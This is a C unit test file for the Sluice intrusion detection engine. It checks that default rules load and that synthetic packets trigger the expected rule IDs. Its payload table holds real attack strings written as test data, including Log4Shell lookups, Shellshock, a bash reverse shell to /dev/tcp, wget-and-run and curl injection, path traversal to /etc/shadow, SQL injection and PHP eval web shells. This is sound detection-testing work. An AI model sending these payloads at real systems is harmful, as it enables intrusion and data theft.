/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The rules in rules/: all load without a message, and a packet of each kind matches the expected rules. */
#include <check.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "default_options.h"
#include "sluice/decode_event.h"
#include "sluice/detect.h"
#include "sluice/keyword.h"
#include "sluice/stream_event.h"

#define COUNT(array) (sizeof(array) / sizeof((array)[0]))

static struct keyword_table *keywords;
static struct rule_variables *variables;
static struct diag *diag;
static struct rule_list *list;
static struct ruleset *ruleset;
static struct detector *detector;

static const char *path_of(const char *name)
{
    static char paths[8][512];
    static unsigned next;
    char *path = paths[next++ % 8];
    const char *source = getenv("SLUICE_SOURCE");

    snprintf(path, sizeof(paths[0]), "%s/rules/%s", source ? source : ".", name);
    return path;
}

static void setup(void)
{
    keywords = keyword_table_new(keyword_list, keyword_list_count);
    variables = rule_variables_new();
    diag = diag_new();
    rule_variables_set_address(variables, "HOME_NET", "[192.168.0.0/16,10.0.0.0/8,172.16.0.0/12]");
    rule_variables_set_address(variables, "EXTERNAL_NET", "!$HOME_NET");
    rule_variables_set_port(variables, "HTTP_PORTS", "80");
    const struct rule_list_options options = {
        .keywords = keywords,
        .variables = variables,
        .classification_file = path_of("classification.config"),
        .reference_file = path_of("reference.config"),
        .threshold_file = path_of("threshold.config"),
    };

    ck_assert_int_eq(rule_list_new(&list, &options, diag), 0);
    ck_assert_int_eq(rule_list_load(list, path_of("sluice.rules"), diag), 0);
    ck_assert_int_eq(rule_list_load(list, path_of("decoder-events.rules"), diag), 0);
    ck_assert_int_eq(rule_list_load(list, path_of("stream-events.rules"), diag), 0);
    ck_assert_int_eq(rule_list_finish(list, diag), 0);
}

/* Rules on scans count packets, so every packet is a hit. They are loaded separately. */
START_TEST(scans_load)
{
    static const char *const files[] = { "scan.rules" };
    size_t before = rule_list_count(list);

    ck_assert_uint_gt(before, 0);
    for (size_t i = 0; i < COUNT(files); i++) {
        const struct rule_list_options options = {
            .keywords = keywords,
            .variables = variables,
            .classification_file = path_of("classification.config"),
        };
        struct rule_list *more;

        ck_assert_int_eq(rule_list_new(&more, &options, diag), 0);
        ck_assert_int_eq(rule_list_load(more, path_of(files[i]), diag), 0);
        ck_assert_int_eq(rule_list_finish(more, diag), 0);
        ck_assert_uint_gt(rule_list_count(more), 5);
        for (size_t k = 0; k < rule_list_count(more); k++) /* sids are unique in all of rules/ */
            ck_assert_ptr_null(rule_list_find(list, 1, rule_list_get(more, k)->sid));
        rule_list_free(more);
    }
    ck_assert_uint_eq(diag_count(diag), 0);
}
END_TEST

static void teardown(void)
{
    rule_list_free(list);
    diag_free(diag);
    rule_variables_free(variables);
    keyword_table_free(keywords);
}

static void setup_detector(void)
{
    struct detector_options detector_options;
    struct ruleset_options options;

    setup();
    ruleset_options_default(&options);
    ck_assert_int_eq(ruleset_new(&ruleset, list, &options, diag), 0);
    list = NULL; /* the ruleset owns the list now */
    detector_options_default(&detector_options);
    ck_assert_int_eq(detector_new(&detector, &detector_options), 0);
    ck_assert_int_eq(detector_prepare(detector, ruleset), 0);
}

static void teardown_detector(void)
{
    detector_free(detector);
    ruleset_free(ruleset);
    teardown();
}

/* --- The files ------------------------------------------------------------------------------------ */

START_TEST(load_without_a_remark)
{
    diag_print(diag, stderr, false);
    ck_assert_uint_eq(diag_count(diag), 0);
    ck_assert_uint_eq(rule_list_rejected(list), 0);
    ck_assert_uint_gt(rule_list_count(list), STREAM_EVENT_END + 100);
}
END_TEST

START_TEST(are_in_their_own_range_and_classified)
{
    for (size_t i = 0; i < rule_list_count(list); i++) {
        const struct rule *rule = rule_list_get(list, i);

        ck_assert_uint_gt(rule->sid, 9000000);
        ck_assert_uint_lt(rule->sid, 9010000);
        ck_assert_msg(rule->class_name && rule->class_description, "%u", (unsigned)rule->sid);
        ck_assert_int_eq(strncmp(rule->message, "SLUICE ", 7), 0);
    }
}
END_TEST

static const char *event_name(unsigned event)
{
    return event < DECODE_EVENT_COUNT ? decode_event_name((enum decode_event)event)
                                      : stream_event_name((enum stream_event)event);
}

START_TEST(name_every_event_once)
{
    unsigned seen[STREAM_EVENT_END] = { 0 };

    for (size_t i = 0; i < rule_list_count(list); i++) {
        const struct condition *c = rule_list_get(list, i)->packet_conditions;
        if (c && c->keyword->hints && c->keyword->hints->event)
            seen[c->keyword->hints->event(c->data)]++;
    }
    for (unsigned event = 0; event < STREAM_EVENT_END; event++)
        ck_assert_msg(seen[event] == 1, "%s: %u rules", event_name(event), seen[event]);
}
END_TEST

/* --- Payloads ------------------------------------------------------------------------------------- */

#define GET(target) "GET " target " HTTP/1.1\r\nHost: www\r\nUser-Agent: curl/8.0\r\nAccept: */*\r\n\r\n"
#define AGENT(name) "GET / HTTP/1.1\r\nHost: www\r\nUser-Agent: " name "\r\nAccept: */*\r\n\r\n"
#define POST(body) "POST /form HTTP/1.1\r\nHost: www\r\nContent-Length: 99\r\n\r\n" body
#define BYTES(text) text, sizeof(text) - 1
#define TCP(port) IPPROTO_TCP, port
#define UDP(port) IPPROTO_UDP, port
#define SMB1(command) "\x00\x00\x10\x35\xffSMB" command "\x00\x00\x00\x00\x18\x07\xc0"
#define SMB_FILLER "0123456789012345678901234567890123456789012345678" /* fills offsets 16 to 64 */

static const struct payload_case {
    const char *payload;
    size_t length;
    const char *sids; /* "" for none */
    uint8_t protocol;
    uint16_t port;
} payloads[] = {
    /* Harmless packets */
    { BYTES(GET("/")), "", TCP(80) },
    { BYTES(GET("/search?q=union+station+select+hotels")), "", TCP(80) },
    { BYTES(GET("/search?q=trade+union+and+select+committee")), "", TCP(80) },
    { BYTES(GET("/search?q=reunion+select+hotels")), "", TCP(80) },
    { BYTES(GET("/docs/../style.css")), "", TCP(80) },
    { BYTES(GET("/blog/what-is-etc-passwd")), "", TCP(80) },
    { BYTES(GET("/?name=O%27Neill&or=1")), "", TCP(80) },
    { BYTES(GET("/page.php?id=7&sort=name")), "", TCP(80) },
    { BYTES(GET("/curl/docs?wget=1")), "", TCP(80) },
    { BYTES(GET("/app.js?f=()%20=>%20{}")), "", TCP(80) },
    { BYTES(GET("/.github/workflows/ci.yml")), "", TCP(80) },
    { BYTES(GET("/.environment")), "", TCP(80) },
    { BYTES(AGENT("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")), "", TCP(80) },
    { BYTES(POST("name=Ada&comment=nice%20page")), "", TCP(80) },
    { BYTES(POST("comment=the+union+will+select+a+speaker")), "", TCP(80) },
    { BYTES(POST("{\"script\": \"f() { return 1 }\"}")), "", TCP(80) },
    { BYTES("GET / HTTP/1.1\r\nCookie: f=() {\r\n\r\n"), "", TCP(80) },
    { BYTES("USER rooter\r\n"), "", TCP(21) },
    { BYTES("USER anna\r\n"), "", TCP(21) },
    { BYTES("\x00\x00\x00\x54\xffSMB2\x00\x00\x00\x00\x18\x07\xc0" SMB_FILLER "\x05\x00"), "", TCP(445) },
    { BYTES("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07"
            "example\x03"
            "com\x00\x00\x01\x00\x01"),
      "", UDP(53) },
    { BYTES("\x23\x02\x06\xe8\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"), "", UDP(123) },
    { BYTES("SSH-2.0-OpenSSH_9.2p1 Debian\r\n"), "", TCP(22) },
    /* Code execution */
    { BYTES("GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://10.9.9.9/a}\r\n\r\n"), "9000001", TCP(80) },
    { BYTES(GET("/?q=$%7Bjndi:dns://x/%7D")), "9000002", TCP(80) },
    { BYTES(GET("/?q=%24%7Bjndi:dns://x/%7D")), "9000002", TCP(8080) },
    { BYTES(AGENT("${${lower:j}ndi:${lower:l}dap://x/a} ldap://x")), "9000003", TCP(80) },
    { BYTES("GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :; }; /bin/cat /etc/passwd\r\n\r\n"), "9000004",
      TCP(80) },
    { BYTES("POST /upload.action HTTP/1.1\r\nContent-Type: "
            "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@X)}\r\n\r\n"),
      "9000006", TCP(80) },
    { BYTES(POST("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")), "9000008", TCP(80) },
    { BYTES("POST /index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1\r\n\r\n"),
      "9000010", TCP(80) },
    { BYTES("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n<?php"), "9000011", TCP(80) },
    { BYTES(GET("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system")),
      "9000012", TCP(80) },
    { BYTES(GET("/board.cgi?cmd=cd+/tmp;wget+http://x/a;sh+a")), "9000015", TCP(80) },
    { BYTES(GET("/ping?host=1.1.1.1%7Ccurl%20x")), "9000025", TCP(80) },
    { BYTES(POST("c=bash+-i+>%26+/dev/tcp/1.2.3.4/4444+0>%261")), "9000016", TCP(80) },
    { BYTES(GET("/scripts/winnt/system32/cmd.exe?/c+dir")), "9000017", TCP(80) },
    { BYTES("POST /mgmt/tm/util/bash HTTP/1.1\r\nX-F5-Auth-Token: a\r\n\r\n"), "9000018", TCP(8443) },
    { BYTES(GET("/autodiscover/autodiscover.json?@x.y/mapi/nspi/")), "9000019", TCP(80) },
    { BYTES("POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\nXWebPageName=diag&dest_host=`id`"), "9000020", TCP(80) },
    { BYTES("POST /HNAP1/ HTTP/1.0\r\nSOAPAction: http://purenetworks.com/HNAP1/`id`\r\n\r\n"), "9000023", TCP(80) },
    { BYTES(POST("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hosts\">]>")), "9000024", TCP(80) },
    /* Reading files */
    { BYTES(GET("/static/../../../../etc/passwd")), "9000030", TCP(80) },
    { BYTES(GET("/x?f=..%2f..%2fetc%2fpasswd")), "", TCP(81) },
    { BYTES(GET("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd")), "9000031", TCP(80) },
    { BYTES(GET("/%2e%2e/%2e%2e/etc/shadow")), "9000041", TCP(80) },
    { BYTES(GET("/x?f=..\\..\\windows\\win.ini")), "9000032", TCP(80) },
    { BYTES("POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\r\n\r\nid"), "9000033", TCP(80) },
    { BYTES(GET("/tmui/login.jsp/..;/tmui/util/getTabSet.jsp")), "9000035", TCP(80) },
    { BYTES(GET("/vpn/../vpns/cfg/smb.conf")), "9000037", TCP(80) },
    { BYTES(GET("/?page=php://filter/convert.base64-encode/resource=index")), "9000038", TCP(80) },
    { BYTES(GET("/.git/config")), "9000039", TCP(80) },
    { BYTES(GET("/.env")), "9000040", TCP(80) },
    /* SQL */
    { BYTES(GET("/item?id=1%20UNION%20SELECT%20password%20FROM%20users")), "9000050", TCP(80) },
    { BYTES(GET("/item?id=1/**/union/**/all/**/select/**/1,2")), "9000050", TCP(80) },
    { BYTES(GET("/item?id=-1+union+all+select+1,2")), "9000050", TCP(80) },
    { BYTES(POST("id=1 union select 1,2,3")), "9000051", TCP(80) },
    { BYTES(GET("/item?id=1+and+sleep(5)")), "9000052", TCP(80) },
    { BYTES(GET("/item?id=1'%20AND%20SLEEP%285%29")), "9000057", TCP(80) },
    { BYTES(GET("/item?id=1;waitfor+delay+'0:0:5'")), "9000059", TCP(80) },
    { BYTES(GET("/item?id=%27%20or%201=1--")), "9000055", TCP(80) },
    { BYTES(GET("/item?id='+or+'a'='a")), "9000047", TCP(80) },
    { BYTES(GET("/item?q=%3Cscript%3Ealert(1)%3C/script%3E")), "9000056", TCP(80) },
    /* Shells */
    { BYTES(GET("/uploads/c99.php")), "9000060", TCP(80) },
    { BYTES(POST("<?php @eval($_POST['x']); ?>")), "9000061", TCP(80) },
    { BYTES(POST("Runtime.getRuntime().exec(request.getParameter(\"c\"))")), "9000062", TCP(80) },
    { BYTES(POST("pass=@eval(base64_decode($_POST[z0]))")), "9000063", TCP(80) },
    /* Scanners */
    { BYTES(AGENT("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")), "9000070", TCP(80) },
    { BYTES(AGENT("sqlmap/1.7#stable (https://sqlmap.org)")), "9000071", TCP(80) },
    { BYTES(AGENT("gobuster/3.6")), "9000081", TCP(80) },
    { BYTES(AGENT("WPScan v3.8 (https://wpscan.com)")), "9000075", TCP(80) },
    { BYTES(AGENT("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)")), "9000078", TCP(80) },
    /* Other services */
    { BYTES(SMB1("3") SMB_FILLER), "9000100", TCP(445) },
    { BYTES(SMB1("2") SMB_FILLER "\x0e\x00"), "9000101", TCP(445) },
    { BYTES("\x00\x00\x00\x40\xfcSMB\xff\xff\xff\xff\x01\x00\x00\x00\xff\xff\xff\xff"), "9000102 9000103", TCP(445) },
    { BYTES("\x00\x00\x00\x54\xffSMBr\x00\x00\x00\x00\x18\x01\x28"), "9000104", TCP(445) },
    { BYTES("\x03\x00\x01\xca\x02\xf0\x80\x7f\x65ms_t120\x00\x00"), "9000105", TCP(3389) },
    { BYTES("USER root\r\n"), "9000120", TCP(21) },
    { BYTES("USER a:)\r\n"), "9000121", TCP(21) },
    { BYTES("root\r\n"), "9000124", TCP(23) },
    { BYTES("/bin/busybox MIRAI\r\n"), "9000125", TCP(23) },
    { BYTES("\xff\xfa\x27\x00\x00USER\x01-f root\xff\xf0"), "9000126", TCP(23) },
    { BYTES("SSH-2.0-libssh_0.9.6\r\n"), "9000127", TCP(22) },
    { BYTES("RCPT TO:<${run{/bin/id}}@localhost>\r\n"), "9000128", TCP(25) },
    { BYTES("VRFY root\r\n"), "9000129", TCP(25) },
    { BYTES("*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n"), "9000140", TCP(6379) },
    { BYTES("POST /v1.24/containers/create HTTP/1.1\r\n\r\n"), "9000141", TCP(2375) },
    { BYTES("\x12\x34\x02\x02javax.servlet.include.request_uri"), "9000142", TCP(8009) },
    { BYTES("t3 12.1\n\xac\xed\x00\x05sr"), "9000143", TCP(7001) },
    { BYTES("\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07"
            "example\x03"
            "com\x00\x00\xfc\x00\x01"),
      "9000160", TCP(53) },
    { BYTES("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07version\x04"
            "bind\x00\x00\x10\x00\x03"),
      "9000162", UDP(53) },
    { BYTES("\x17\x00\x03\x2a\x00\x00\x00\x00"), "9000164", UDP(123) },
    { BYTES("\x00\x00\x00\x00\x00\x01\x00\x00stats\r\n"), "9000165", UDP(11211) },
    { BYTES("M-SEARCH * HTTP/1.1\r\n"), "9000166", UDP(1900) },
    { BYTES("OPTIONS sip:100@x SIP/2.0\r\nUser-Agent: friendly-scanner\r\n"), "9000168", UDP(5060) },
    { BYTES("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"), "9000230", TCP(12345) },
};

/* Returns the sids of the hits, in order. */
static const char *sids(struct packet *pkt)
{
    static char text[256];
    const struct hit *hits;
    size_t count, used = 0;

    detect_packet(detector, ruleset, &(struct detect_input){ .packet = pkt }, NULL);
    count = detect_finish(detector, &hits);
    text[0] = '\0';
    for (size_t i = 0; i < count && used < sizeof(text); i++)
        used += (size_t)snprintf(text + used, sizeof(text) - used, "%s%u", i ? " " : "", (unsigned)hits[i].rule->sid);
    return text;
}

static struct packet packet_of(uint8_t protocol)
{
    static const uint8_t header[24];

    return (struct packet){
        .ip_version = 4,
        .protocol = protocol,
        .ttl = 64,
        .source_address = { .bytes = { 198, 51, 100, 1 } },
        .destination_address = { .bytes = { 10, 0, 0, 2 } },
        .source_port = 40000,
        .destination_port = 9,
        .transport = header,
        .transport_header_length = sizeof(header),
        .payload = header,
    };
}

START_TEST(find_their_payload)
{
    const struct payload_case *c = &payloads[_i];
    struct packet pkt = packet_of(c->protocol);

    if (pkt.protocol == IPPROTO_TCP)
        pkt.tcp.flags = TCP_PSH | TCP_ACK;
    pkt.destination_port = c->port;
    pkt.payload = (const uint8_t *)c->payload;
    pkt.payload_length = (uint32_t)c->length;
    ck_assert_msg(strcmp(sids(&pkt), c->sids) == 0, "%.60s: %s, expected %s", c->payload, sids(&pkt), c->sids);
}
END_TEST

/* --- Headers -------------------------------------------------------------------------------------- */

START_TEST(find_scans_by_their_flags)
{
    static const struct {
        uint8_t flags;
        const char *sids;
    } cases[] = {
        { 0, "9000200" },
        { TCP_FIN | TCP_PSH | TCP_URG, "9000201" },
        { TCP_SYN | TCP_FIN, "9000202" },
        { TCP_SYN | TCP_RST, "9000203" },
        { TCP_FIN, "9000204" },
        { TCP_SYN, "" },
        { TCP_SYN | TCP_ECE | TCP_CWR, "" },
        { TCP_SYN | TCP_ACK, "" },
        { TCP_ACK, "" },
        { TCP_ACK | TCP_PSH | TCP_URG, "" },
        { TCP_FIN | TCP_ACK, "" },
        { TCP_FIN | TCP_ACK | TCP_PSH, "" },
        { TCP_RST, "" },
        { TCP_RST | TCP_ACK, "" },
    };

    for (size_t i = 0; i < COUNT(cases); i++) {
        struct packet pkt = packet_of(IPPROTO_TCP);

        pkt.tcp.flags = cases[i].flags;
        ck_assert_str_eq(sids(&pkt), cases[i].sids);
    }
}
END_TEST

START_TEST(find_scanners_by_their_syn)
{
    struct packet pkt = packet_of(IPPROTO_TCP);

    pkt.tcp = (struct tcp_info){ .flags = TCP_SYN, .window = 1024, .has_mss = true, .mss = 1460 };
    ck_assert_str_eq(sids(&pkt), "9000205");
    pkt.transport_header_length = 20;
    pkt.tcp.has_mss = false;
    ck_assert_str_eq(sids(&pkt), "9000206");
    pkt.transport_header_length = 24;
    pkt.tcp = (struct tcp_info){ .flags = TCP_SYN, .has_mss = true, .mss = 48 };
    ck_assert_str_eq(sids(&pkt), "9000207");
}
END_TEST

START_TEST(find_bad_icmp)
{
    static const uint8_t big[9001];
    struct packet pkt = packet_of(IPPROTO_ICMP);

    pkt.icmp.type = 8;
    pkt.payload = big;
    pkt.payload_length = 56;
    ck_assert_str_eq(sids(&pkt), "");
    pkt.payload_length = 9001;
    ck_assert_str_eq(sids(&pkt), "9000180");
    pkt.icmp.type = 5;
    ck_assert_str_eq(sids(&pkt), "9000182");

    struct packet advert = packet_of(IPPROTO_ICMPV6);

    advert.ip_version = 6;
    advert.icmp.type = 134;
    advert.ttl = 255;
    ck_assert_str_eq(sids(&advert), "");
    advert.ttl = 254;
    ck_assert_str_eq(sids(&advert), "9000183");
}
END_TEST

START_TEST(find_bad_ip)
{
    uint8_t last[20] = { 0x45, 0, 1 }; /* the length field of the last fragment is set below */
    struct packet pkt = packet_of(IPPROTO_UDP);

    pkt.ip_options_seen = 1u << IP_OPTION_LSRR;
    ck_assert_str_eq(sids(&pkt), "9000187");

    struct packet fragment = packet_of(IPPROTO_ICMP);

    last[3] = 415 - 256;
    fragment.transport = NULL;
    fragment.payload = NULL;
    fragment.flags = PACKET_FRAGMENT;
    fragment.fragment_offset = 65120;
    fragment.ip = last;
    fragment.ip_header_length = sizeof(last);
    ck_assert_str_eq(sids(&fragment), "");
    last[3]++;
    ck_assert_str_eq(sids(&fragment), "9000181");

    struct packet malformed = { .events[0] = 0 };

    malformed.events[DECODE_EVENT_IPV4_HLEN_TOO_SMALL / 64] = UINT64_C(1) << (DECODE_EVENT_IPV4_HLEN_TOO_SMALL % 64);
    malformed.event_count = 1;
    const struct hit *hits;

    detect_packet(detector, ruleset, &(struct detect_input){ .packet = &malformed }, NULL);
    ck_assert_uint_eq(detect_finish(detector, &hits), 1);
    ck_assert_str_eq(hits[0].rule->message, "SLUICE DECODER IPv4: header length below 20");
    ck_assert_int_eq(hits[0].rule->action, ACTION_DROP);
}
END_TEST

static Suite *suite(void)
{
    Suite *s = suite_create("default_rules");
    TCase *files = tcase_create("files"), *traffic = tcase_create("traffic");

    tcase_add_checked_fixture(files, setup, teardown);
    tcase_add_test(files, load_without_a_remark);
    tcase_add_test(files, are_in_their_own_range_and_classified);
    tcase_add_test(files, name_every_event_once);
    tcase_add_test(files, scans_load);
    suite_add_tcase(s, files);
    tcase_add_unchecked_fixture(traffic, setup_detector, teardown_detector);
    tcase_set_timeout(traffic, 60);
    tcase_add_loop_test(traffic, find_their_payload, 0, COUNT(payloads));
    tcase_add_test(traffic, find_scans_by_their_flags);
    tcase_add_test(traffic, find_scanners_by_their_syn);
    tcase_add_test(traffic, find_bad_icmp);
    tcase_add_test(traffic, find_bad_ip);
    suite_add_tcase(s, traffic);
    return s;
}

int main(void)
{
    SRunner *runner = srunner_create(suite());

    srunner_run_all(runner, CK_ENV);
    int failed = srunner_ntests_failed(runner);

    srunner_free(runner);
    return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
